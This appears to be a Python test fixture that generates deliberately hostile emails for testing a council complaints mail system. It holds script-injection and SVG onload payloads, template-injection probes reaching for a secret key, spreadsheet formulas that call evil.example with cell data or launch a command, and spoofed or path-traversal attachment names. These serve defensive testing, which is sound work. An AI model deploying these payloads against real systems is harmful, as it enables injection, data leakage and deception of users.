"""Mail that means harm to whoever looks at it, all of our own making, each named for its trick.

The pages are in tests/mail_hostile, as they are spelt; what is long, or no page, is made here. Every one says
in words what a resident would say, so that it becomes a case. What a trick would fetch lies at evil.example,
which is nobody's; what it would run sets `window.pwned` or opens a dialog.
"""

import base64
from email.message import EmailMessage
from pathlib import Path

EVIL = "http://evil.example"

_FOLDER = Path(__file__).parent / "mail_hostile"
_RUN = "window.pwned=1;top.pwned=1;alert(1)"
_WORDS = "I reported the missed bin on 3 May and nobody has replied."
_MARKUP = '"><script>window.pwned=1;alert(1)</script><img src=x onerror=alert(1)>'
_TURNED = "\u202egnp.exe\u202c \u2066hidden\u2069 \u200eA\u200f"
_ANN = "Ann Lee <ann@example.org>"


def hostile() -> dict[str, bytes]:
    """Return the messages by their names."""
    files = sorted(_FOLDER.glob("*.html"))
    pages = {file.stem: file.read_text(encoding="utf-8") for file in files} | _long_pages()
    made = {name: _page(page) for name, page in pages.items()}
    return {**made, **_texts(), **_names(), **_files()}


def _long_pages() -> dict[str, str]:
    return {
        "table-huge": "<table><tr>" + "<td width=500>x" * 200 + ("<tr>" + "<td>y" * 100) * 60 + "</table>",
        "table-with-spans": "<table><tr><td colspan=99999999 rowspan=99999999>x</table>" + "<table><td>" * 60,
        "nesting-deep": "<div>" * 2_500 + "deep" + "<b><i><font>" * 500,
        "nesting-absurd": "<div>" * 20_000 + "deep",
        "word-very-long": f"<p>{'w' * 20_000}</p><pre>{'p' * 5_000}</pre><p>{'&nbsp;' * 3_000}</p>",
        "accents-heaped": f"<p>{_heap(200)} {_heap(200)}</p>",
    }


def _texts() -> dict[str, bytes]:
    return {
        "page-beside-text": _page(f"<script>{_RUN}</script>", text=f"{_WORDS}\n\n{_MARKUP}"),
        "text-that-is-markup": _plain(
            f"{_MARKUP}\n</pre></div></article><h1>x</h1><style>*{{display:none}}</style>"
        ),
        "text-of-templates": _plain("{{7*7}} {% raw %} {{ config.SECRET_KEY }} {{ self }} {#"),
        "text-of-formulas": _plain(
            f'=HYPERLINK("{EVIL}","x")\n+cmd|\' /C calc\'!A0\n@SUM(1+1)\n-2+3',
            subject=f'=HYPERLINK("{EVIL}?"&A1)',
        ),
        "text-turned-round": _plain(f"{_TURNED}\n\u202eyltneuqesnoc\u2067\u2067\u2067"),
        "text-with-controls": _plain(
            "nul \x00 bell \x07 escape \x1b[31m back \x08 feed \x0c delete \x7f c1 \x9b tag \U000e0041"
        ),
        "text-without-spaces": _plain("a" * 50_000),
        "text-of-heaped-accents": _plain("\n".join(_heap(300) for _ in range(20))),
        "text-of-empty-lines": _plain("\n" * 20_000 + "the end" + "\t" * 5_000),
    }


def _names() -> dict[str, bytes]:
    """Return mail whose tricks are in the names of people and the subject."""
    return {
        "names-of-markup": _plain(subject=_encoded(_MARKUP), sender=f"{_encoded(_MARKUP)} <ann@example.org>"),
        "names-turned-round": _plain(
            subject=_encoded(_TURNED * 20), sender=f"{_encoded(_TURNED)} <ann@example.org>"
        ),
        "names-without-end": _plain(subject="w" * 900, sender=f"{'n' * 900} <ann@example.org>"),
        "names-of-templates": _plain(subject="{{7*7}}{% x %}", sender="{{7*7}} <ann@example.org>"),
    }


def _files() -> dict[str, bytes]:
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>"
    return {
        "file-of-a-page": _with_file("page.html", "text/html", f"<p>x</p><script>{_RUN}</script>"),
        "file-of-a-drawing": _with_file("map.svg", "image/svg+xml", drawing),
        "file-with-a-lying-name": _with_file("letter\u202efdp.exe", "application/pdf", "MZ not a document"),
        "file-with-a-path": _with_file(
            '../../..\\etc/<b>pass"wd;x=1.txt', "text/plain", f"{_MARKUP} {{{{7*7}}}}"
        ),
    }


def _page(markup: str, *, text: str = "") -> bytes:
    """Return mail with a page, in base64 so that no library mends it; with a text beside it if given."""
    body = base64.encodebytes(f"<p>{_WORDS}</p>{markup}".encode())
    head = (
        f"From: {_ANN}\nTo: complaints@harrowmere.example\nSubject: Missed bin\nMIME-Version: 1.0\n".encode()
    )
    page = b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n" + body
    if not text:
        return head + page
    plain = b"Content-Type: text/plain; charset=utf-8\n\n" + text.encode() + b"\n"
    both = b"--b\n" + plain + b"--b\n" + page + b"--b--\n"
    return head + b'Content-Type: multipart/alternative; boundary="b"\n\n' + both


def _plain(text: str = "See above.", *, subject: str = "Missed bin", sender: str = _ANN) -> bytes:
    """Return mail of plain text."""
    return (
        f"From: {sender}\nTo: complaints@harrowmere.example\nSubject: {subject}\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
    ).encode() + base64.encodebytes(f"{_WORDS}\n\n{text}".encode())


def _with_file(name: str, kind: str, content: str) -> bytes:
    """Return mail with one file attached."""
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = _ANN, "complaints@harrowmere.example", "Missed bin"
    made.set_content(_WORDS)
    main, _, sub = kind.partition("/")
    made.add_attachment(content.encode(), maintype=main, subtype=sub, filename=name)
    return made.as_bytes()


def _encoded(words: str) -> str:
    """Return a header's words as RFC 2047 writes them."""
    return f"=?utf-8?b?{base64.b64encode(words.encode()).decode()}?="


def _heap(count: int) -> str:
    """Return a letter under so many accents."""
    return "e" + "\u0301\u0316\u033f" * count
